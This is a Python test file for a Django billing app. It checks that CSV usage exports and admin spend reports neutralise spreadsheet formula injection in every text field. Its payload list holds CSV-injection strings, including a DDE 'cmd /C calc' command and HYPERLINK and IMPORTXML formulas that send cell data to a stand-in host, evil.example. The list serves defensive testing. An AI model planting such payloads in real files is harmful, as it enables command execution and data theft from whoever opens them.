"""S21: no cell of an export is a formula for a spreadsheet."""

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db.models import CharField, TextField
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from billing.models import Usage
from billing.usage import rollup
from billing.usage.exports import COLUMNS
from tests.admin.rows import make_usage
from tests.billing.usage.test_exports import body
from tests.fixtures_billing import make_customer, make_team
from tests.prompts.api.conftest import key_client

pytestmark = pytest.mark.django_db(transaction=True)
TEXTS = [one for one in Usage._meta.fields if isinstance(one, CharField | TextField)]
ROOT = Path(__file__).resolve().parents[2]
TRIGGERS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"ok")',
    '=IMPORTXML("http://evil.example","//a")', "=WEBSERVICE(A1)", "+cmd|' /C calc'!A0",
    '"=1+1', 'a;=1+1', 'a";=1+1', "a,=1+1", 'a","=1+1', "a\r\n=1+1", 'a;"=1+1";b', "\uff1d1+1",
    "\uff201+1",
]  # fmt: skip
NOW = timezone.now() - dt.timedelta(minutes=2)
SPAN = {"from": f"{NOW:%Y-%m-%d}", "to": f"{NOW + dt.timedelta(days=1):%Y-%m-%d}"}
DIMENSIONS = (
    "team",
    "key",
    "model",
    "provider",
    "endpoint",
    "prompt",
    "variant",
    "tag",
)


def plant() -> None:
    """A request for each payload, in every text that the export has."""
    names = {*COLUMNS, "team"} & {one.name for one in TEXTS}
    for number, text in enumerate(PAYLOADS):
        team = make_team(key=text, name=text)
        customer = make_customer(f"{text}{number}", team=team)
        texts = {name: text[: Usage._meta.get_field(name).max_length] for name in names}
        texts["prompt_key"] = text
        make_usage(
            customer, created_at=NOW, **{**texts, "status": "ok", "tags": [text]}
        )
    rollup.catch_up()


def check(text: str) -> None:
    """Read as a program reads it, and as a spreadsheet where cells end at `;`."""
    for delimiter in ",;":
        rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for row in rows:
            assert [
                one for one in row if one.lstrip("\ufeff").startswith(TRIGGERS)
            ] == []


def exports(boss: Client, admin: Client) -> dict[str, Any]:
    found = {"requests": admin.get("/api/usage/export", {**SPAN, "download": "csv"})}
    for name in DIMENSIONS:
        asked = {"group_by": name, "download": "csv"}
        found[f"report by {name}"] = admin.get("/api/usage/report", {**SPAN, **asked})
        page = reverse("admin:billing_spend")
        found[f"page by {name}"] = boss.get(page, {"csv": "1", "by": name})
    return found


def test_exports__formulas_in_every_text__are_texts() -> None:
    plant()
    boss = Client()
    boss.force_login(User.objects.create_superuser("boss"))
    for name, answer in exports(boss, key_client("admin")).items():
        assert answer.status_code == 200, (name, answer.content)
        assert answer["Content-Type"].startswith("text/csv"), name
        text = body(answer)
        check(text)
        if name == "requests":
            assert text.count("\r\n") > len(PAYLOADS)


def test_csv__in_our_code__is_written_in_one_place() -> None:
    apps = ("valuecanvas", "billing", "llm", "prompts", "flags")
    found = {
        str(path.relative_to(ROOT))
        for app in apps
        for path in (ROOT / app).rglob("*.py")
        if "csv.writer" in path.read_text() or "DictWriter" in path.read_text()
    }
    assert found == {"valuecanvas/core/transfer/downloads.py"}
